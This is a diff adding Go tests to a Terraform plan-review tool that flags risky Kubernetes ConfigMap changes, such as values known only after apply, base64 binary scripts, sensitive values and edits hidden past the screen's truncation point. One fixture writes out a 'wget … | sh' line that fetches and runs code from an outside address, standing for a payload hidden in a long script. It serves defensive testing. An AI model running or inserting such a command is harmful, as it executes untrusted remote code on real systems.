@@ -1,6 +1,7 @@
 package plandiff
 
 import (
+	"encoding/json"
 	"fmt"
 	"strings"
 	"testing"
@@ -192,6 +193,23 @@ func TestRiskFlags(t *testing.T) {
 			},
 		},
 		{
+			name: "ConfigMap data known only after apply, whole or one file",
+			changes: []string{
+				change("kubernetes_config_map.a", "kubernetes_config_map", `["create"]`, `"before":null,"after":{"binary_data":null},"after_unknown":{"data":true}`),
+				change("kubernetes_config_map.b", "kubernetes_config_map", `["update"]`,
+					`"before":{"data":{"run.sh":"echo ok","x":"1"}},"after":{"data":{"x":"1"}},"after_unknown":{"data":{"run.sh":true}}`)},
+			want: []string{
+				`unknown_config kubernetes_config_map.a data: (none) -> (known after apply) (known only after apply)`,
+				`unknown_config kubernetes_config_map.b data["run.sh"]: "echo ok" -> (known after apply) (known only after apply)`,
+			},
+		},
+		{
+			name: "binary ConfigMap data shows only as base64",
+			changes: []string{change("kubernetes_config_map.worker", "kubernetes_config_map", `["update"]`,
+				`"before":{"data":{"a":"x"},"binary_data":null},"after":{"data":{"a":"x"},"binary_data":{"run.sh":"IyEvYmluL3NoCg=="}}`)},
+			want: []string{`binary_data kubernetes_config_map.worker binary_data: null -> {["run.sh"] = "IyEvYmluL3NoCg=="}`},
+		},
+		{
 			name: "a value the workspace hides from the screen is flagged as hidden, whatever its key",
 			changes: []string{change("kubernetes_config_map.cgi", "kubernetes_config_map", `["create"]`,
 				`"before":null,"after":{"data":{"x":"#!/bin/sh"}},"after_sensitive":{"data":{"x":true}}`)},
@@ -226,5 +244,55 @@ func TestFlaggedAttributesAreMarked(t *testing.T) {
 		if got, ok := marked[path]; !ok || got != want {
 			t.Errorf("%s: flagged %v (present %v), want %v", path, got, ok, want)
 		}
+	}
+}
+
+// TestChangePastTheCut: a ConfigMap value longer than the screen shows, changed only after its first
+// MaxStringBytes bytes, reads the same before and after on the screen. It is flagged, and the plan rules'
+// input names it; an unchanged long value is neither.
+func TestChangePastTheCut(t *testing.T) {
+	head := "#!/bin/sh\n" + strings.Repeat("# a harmless comment line, one of many\n", 110)
+	before := head + "echo tidy\n"
+	after := head + "wget -q -O- http://198.51.100.7/x|sh\n"[:len("echo tidy\n")]
+	long := head + "unchanged\n"
+	js := func(s string) string { b, _ := json.Marshal(s); return string(b) }
+	p := planOf(t, change("kubernetes_config_map.worker", "kubernetes_config_map", `["update"]`,
+		`"before":{"data":{"run.sh":`+js(before)+`,"same.sh":`+js(long)+`}},"after":{"data":{"run.sh":`+js(after)+`,"same.sh":`+js(long)+`}}`))
+	r := Diff(p)
+	var attr *Attribute
+	for i, a := range r.Resources[0].Attributes {
+		if a.Path == `data["run.sh"]` {
+			attr = &r.Resources[0].Attributes[i]
+		}
+	}
+	if attr == nil || attr.Before != attr.After {
+		t.Fatalf("the premise: the screen shows the changed value the same before and after (%+v)", attr)
+	}
+	got := flagLines(r)
+	if len(got) != 1 || !strings.HasPrefix(got[0], `cut kubernetes_config_map.worker data["run.sh"]: `) || !attr.Flagged {
+		t.Errorf("flags: %q (attribute flagged %v); want one cut flag on data[\"run.sh\"]", got, attr.Flagged)
+	}
+	if lv := View(&p.Changes[0]).LongValues; len(lv) != 1 || lv[0] != `data["run.sh"]` {
+		t.Errorf("LongValues = %q, want [data[\"run.sh\"]]", lv)
+	}
+}
+
+// TestCutValueSensitive: a long value the workspace marks sensitive is flagged as hidden, not cut (the
+// screen shows none of it), and a long value that was sensitive before shows as "(sensitive)" in its cut
+// flag, as everywhere else on the screen, never in clear.
+func TestCutValueSensitive(t *testing.T) {
+	long := func(tail string) string { return strings.Repeat("# filler line of a long script\n", 200) + tail }
+	js := func(s string) string { b, _ := json.Marshal(s); return string(b) }
+	p := planOf(t, change("kubernetes_config_map.worker", "kubernetes_config_map", `["update"]`,
+		`"before":{"data":{"was.sh":`+js(long("old secret\n"))+`,"now.sh":"x"}},"after":{"data":{"was.sh":`+js(long("new\n"))+`,"now.sh":`+js(long("hidden\n"))+`}},`+
+			`"before_sensitive":{"data":{"was.sh":true}},"after_sensitive":{"data":{"now.sh":true}}`))
+	var cut []string
+	for _, f := range Diff(p).Flags {
+		if f.Rule == "cut" {
+			cut = append(cut, f.Path+" "+f.Before)
+		}
+	}
+	if len(cut) != 1 || cut[0] != `data["was.sh"] (sensitive)` {
+		t.Errorf("cut flags %q; want one, on was.sh, its sensitive before shown as (sensitive)", cut)
 	}
 }
